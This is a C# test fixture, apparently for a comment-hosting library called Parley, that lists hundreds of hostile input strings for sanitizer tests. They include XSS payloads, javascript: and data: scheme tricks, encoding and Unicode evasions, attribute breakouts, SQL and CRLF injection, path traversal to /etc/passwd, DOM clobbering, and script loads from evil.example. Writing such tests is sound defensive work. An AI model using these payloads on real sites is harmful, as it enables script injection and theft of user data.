namespace Parley.Tests.Hosting;

/// <summary>Texts that try to become more than text: markup, script, foreign schemes, clobbering, deception, and work without end.</summary>
internal static class HostileStrings
{
    /// <summary>Whatever runs is called by this name, so that it can be looked for.</summary>
    private const string Run = "hostile()";

    public static IReadOnlyList<string> All { get; } = [.. Html, .. Events(), .. Markdown, .. Schemes(), .. Entities, .. Unicode, .. Breakouts, .. Clobbering, .. Nested()];

    private static IEnumerable<string> Html =>
    [
        $"<script>{Run}</script>",
        $"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        $"<scr<script>ipt>{Run}</scr</script>ipt>",
        $"<script\n>{Run}</script\n>",
        $"<script/x>{Run}</script>",
        $"<script>//<![CDATA[\n{Run}//]]></script>",
        $"<img src=x onerror={Run}>",
        $"<img src=x onerror={Run}//",
        $"<img/src=x/onerror={Run}>",
        $"<img src=`x`onerror={Run}>",
        $"<image href=x onerror={Run}>",
        $"<svg onload={Run}>",
        $"<svg/onload={Run}>",
        $"<svg><script>{Run}</script></svg>",
        $"<svg><animate onbegin={Run} attributeName=x dur=1s>",
        $"<svg><a xlink:href=\"javascript:{Run}\"><text y=20>x</text></a></svg>",
        $"<svg><style><img src=x onerror={Run}></style></svg>",
        $"<svg><foreignObject><iframe srcdoc=\"<script>{Run}</script>\"></foreignObject></svg>",
        $"<math><mi xlink:href=\"javascript:{Run}\">x</mi></math>",
        $"<math><mtext><table><mglyph><style><img src=x onerror={Run}>",
        $"<iframe src=\"javascript:{Run}\"></iframe>",
        $"<iframe srcdoc=\"&lt;script&gt;{Run}&lt;/script&gt;\"></iframe>",
        $"<object data=\"javascript:{Run}\"></object>",
        $"<embed src=\"javascript:{Run}\">",
        $"<form action=\"javascript:{Run}\"><input type=submit></form>",
        $"<form id=write><input name=body></form>",
        $"<button formaction=\"javascript:{Run}\">x</button>",
        $"<input autofocus onfocus={Run}>",
        $"<select autofocus onfocus={Run}><option>x</select>",
        $"<textarea autofocus onfocus={Run}></textarea>",
        $"<details open ontoggle={Run}><summary>x</summary></details>",
        $"<video><source onerror={Run}></video>",
        $"<audio src=x onerror={Run}>",
        $"<body onload={Run}>",
        $"<base href=\"https://evil.example/\">",
        $"<link rel=stylesheet href=\"https://evil.example/x.css\">",
        $"<meta http-equiv=refresh content=\"0;url=javascript:{Run}\">",
        $"<style>*{{display:none}}</style>",
        $"<style>@import 'https://evil.example/x.css';</style>",
        $"<p style=\"background:url(javascript:{Run})\">x</p>",
        $"<p style=\"position:fixed;inset:0;z-index:9999\">x</p>",
        $"<div class=\"comment\" id=\"parley-1\">forged</div>",
        $"<template><script>{Run}</script></template>",
        $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\"></noscript>",
        $"<xmp><img src=\"</xmp><img src=x onerror={Run}>\"></xmp>",
        $"<plaintext>",
        $"<table background=\"javascript:{Run}\"><td>x</table>",
        $"<marquee onstart={Run}>x</marquee>",
        $"<isindex action=\"javascript:{Run}\">",
        $"<a href=\"javascript:{Run}\">x</a>",
        $"<a href=\"https://good.example\" onclick=\"{Run}\">x</a>",
        $"<a href=\"https://good.example\" style=\"color:red\" target=_top ping=\"https://evil.example\">x</a>",
        $"<a href=\"https://good.example\"\tonmouseover\t=\t{Run}>x</a>",
        $"<custom-element onclick={Run}>x</custom-element>",
        $"<slot name=x><parley-thread></parley-thread>",
        $"<!--[if IE]><script>{Run}</script><![endif]-->",
        $"<!-- --!><img src=x onerror={Run}> -->",
        $"<?xml version=\"1.0\"?><?import namespace=\"x\" implementation=\"{Run}\">",
        $"<![CDATA[<script>{Run}</script>]]>",
        $"<!DOCTYPE html><script>{Run}</script>",
        $"</div></article></main><script>{Run}</script>",
    ];

    private static string[] Handlers =>
        ["onpointerenter", "onanimationstart", "onbeforeinput", "onwheel", "onscrollend", "oncontentvisibilityautostatechange"];

    private static IEnumerable<string> Events() => from handler in Handlers select $"<b {handler}={Run} style=content-visibility:auto>x</b>";

    private static IEnumerable<string> Markdown =>
    [
        $"[x](javascript:{Run})",
        $"[x](<javascript:{Run}>)",
        $"[x]( javascript:{Run} )",
        $"[x](javascript:{Run} \"title\")",
        $"[x](https://good.example \"\\\" onmouseover={Run}\")",
        $"[x](https://good.example '\" onmouseover={Run} \"')",
        $"[x](https://good.example\"onmouseover=\"{Run})",
        $"![x](javascript:{Run})",
        $"![x\" onerror=\"{Run}](https://good.example/p.png)",
        $"![x](https://good.example/p.png \"\\\" onerror={Run}\")",
        $"[![x](javascript:{Run})](javascript:{Run})",
        $"[x][1]\n\n[1]: javascript:{Run}",
        $"[x][]\n\n[x]: <javascript:{Run}> 'title'",
        $"[x]\n\n[x]: data:text/html,<script>{Run}</script>",
        $"[1]: https://good.example \"\\\" onclick={Run} \\\"\"\n[x][1]",
        $"<javascript:{Run}>",
        $"<data:text/html,{Run}>",
        $"<javascript&colon;{Run}>",
        $"http://good.example\"onmouseover=\"{Run}",
        $"https://good.example/<script>{Run}</script>",
        $"www.good.example/\" onclick={Run} x=\"",
        $"`<script>{Run}</script>`",
        $"``` \" onclick={Run} x=\"\ncode\n```",
        $"```<img src=x onerror={Run}>\ncode\n```",
        $"~~~ html\n<script>{Run}</script>\n~~~",
        $"    <script>{Run}</script>",
        $"# x {{onclick={Run}}}",
        $"x {{.class #id onclick={Run}}}",
        $"*x*{{onclick={Run}}}",
        $"| x |\n|---|\n| <script>{Run}</script> |",
        $"- [ ] <input type=checkbox onclick={Run}>",
        $"[^1]\n\n[^1]: <script>{Run}</script>",
        $"::: x onclick={Run}\ntext\n:::",
        $"$$ \\href{{javascript:{Run}}}{{x}} $$",
        $"> <script>{Run}</script>\n> > [x](javascript:{Run})",
        $"1. <img src=x onerror={Run}>\n2. [x](vbscript:{Run})",
        $"\\<script\\>{Run}\\</script\\>",
        $"<scr\\ipt>{Run}</scr\\ipt>",
        $"[x](\\javascript:{Run})",
        $"[x](java\nscript:{Run})",
        $"*<b*>{Run}",
        $"[<img src=x onerror={Run}>](https://good.example)",
        $"[x](https://good.example){{onclick={Run}}}",
        $"![[<script>{Run}</script>]]",
        $"<details><summary onclick={Run}>x</summary></details>",
        $"***<u onclick={Run}>***",
    ];

    private static IEnumerable<string> Schemes()
    {
        string[] schemes =
        [
            "JaVaScRiPt:", "java\tscript:", "java%0ascript:", "java&#10;script:", "java&Tab;script:", "&#106;avascript:", "&#x6A;avascript:", "javascript&colon;",
            "\u0001javascript:", "%6Aavascript:", "vbscript:", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg/onload=hostile()>", "blob:https://x/",
            "file:///etc/passwd", "filesystem:https://x/", "view-source:https://x/", "about:blank#", "chrome://settings", "intent://x#Intent;", "ms-word:ofe|u|",
            "tel:+1900", "sms:+1900", "feed:javascript:", "jar:javascript:", "mhtml:javascript:", "livescript:", "mocha:", "//evil.example/", "\\\\evil.example\\", "/\\evil.example", "https:evil.example",
            "ｊavascript:", "java\u200Cscript:", "javascript\u202E:",
        ];
        foreach (var scheme in schemes)
            yield return $"[x]({scheme}{Run})";
    }

    private static IEnumerable<string> Entities =>
    [
        $"&lt;script&gt;{Run}&lt;/script&gt;",
        $"&#60;script&#62;{Run}&#60;/script&#62;",
        $"&#x3c;img src=x onerror={Run}&#x3e;",
        $"&LT;script&GT;{Run}&LT;/script&GT;",
        $"&amp;lt;script&amp;gt;{Run}",
        $"&#0;&#xD800;&#x110000;&#x202E;{Run}",
        $"&NewLine;&Tab;&nbsp;&zwj;&ZeroWidthSpace;{Run}",
        $"%3Cscript%3E{Run}%3C/script%3E",
        $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e",
        $"\\x3cscript\\x3e{Run}\\x3c/script\\x3e",
        $"+ADw-script+AD4-{Run}+ADw-/script+AD4-",
    ];

    private static IEnumerable<string> Unicode =>
    [
        $"＜script＞{Run}＜/script＞",
        $"﹤script﹥{Run}﹤/script﹥",
        $"<\u0338script>{Run}</script>",
        $"<b>\u0338x</b\u0338>",
        $"<ſcript>{Run}</ſcript>",
        $"<ımg src=x onerror={Run}>",
        $"<img\u00A0src=x\u3000onerror={Run}>",
        $"<img\u0085src=x\u2028onerror={Run}>",
        $"<scr\u200Bipt>{Run}</scr\u200Bipt>",
        $"<scr\0ipt>{Run}</scr\0ipt>",
        $"\u202E>tpircs<{Run}\u202C",
        $"\u2066{Run}\u2069\u2067x",
        $"\uFEFF<script>{Run}</script>",
        $"\u2028<script>{Run}</script>\u2029",
        $"Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349a\u036B\u034E\u0332",
        $"\U000E003C\U000E0073script\U000E003E{Run}",
        $"👩\u200D👩\u200D👧\u200D👦<script>{Run}</script>",
        $"\uD83D\uDE00\u0000<img src=x onerror={Run}>",
    ];

    private static IEnumerable<string> Breakouts =>
    [
        $"\"><script>{Run}</script>",
        $"'><script>{Run}</script>",
        $"\" autofocus onfocus=\"{Run}",
        $"' autofocus onfocus='{Run}",
        $"` onmouseover=`{Run}",
        $"</textarea><script>{Run}</script>",
        $"</title><script>{Run}</script>",
        $"</style><script>{Run}</script>",
        $"</script><script>{Run}</script>",
        $"</option></select><img src=x onerror={Run}>",
        $"--><script>{Run}</script><!--",
        $"]]><script>{Run}</script>",
        $"{{{{constructor.constructor('{Run}')()}}}}",
        $"${{{Run}}}",
        $"#{{{Run}}}",
        $"<%= {Run} %>",
        $"@{{ {Run}; }} @(1+1) @Html.Raw(\"x\")",
        $"{{count, plural, one {{x}} other {{y}}}} {{name}} {{0}}",
        $"'; DROP TABLE comments; --",
        $"\r\nSet-Cookie: x=y\r\n\r\n<script>{Run}</script>",
        $"%0d%0aLocation: https://evil.example",
        $"../../../../etc/passwd",
        $"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{Run}//'>",
    ];

    private static IEnumerable<string> Clobbering =>
    [
        "<a id=parley name=parley href=https://good.example>x</a>",
        "<img name=cookie><img name=body><form name=document>",
        "<b id=__proto__>x</b><i id=constructor>y</i>",
        "<form><input name=attributes><input name=parentNode></form>",
        "<p id=main class=parley>x</p>",
        "<ul id=thread><li id=write>x</li></ul>",
        "{\"__proto__\":{\"isAdmin\":true}}",
    ];

    private static IEnumerable<string> Nested() =>
    [
        new string('>', 12) + " deep <script>" + Run + "</script>",
        string.Concat(Enumerable.Repeat("<b>", 300)) + Run,
        string.Concat(Enumerable.Repeat("<div><svg>", 300)) + $"<img src=x onerror={Run}>",
        string.Concat(Enumerable.Repeat("*_", 40)) + Run + string.Concat(Enumerable.Repeat("_*", 40)),
        string.Concat(Enumerable.Repeat("[", 60)) + "x" + string.Concat(Enumerable.Repeat($"](javascript:{Run})", 60)),
    ];
}
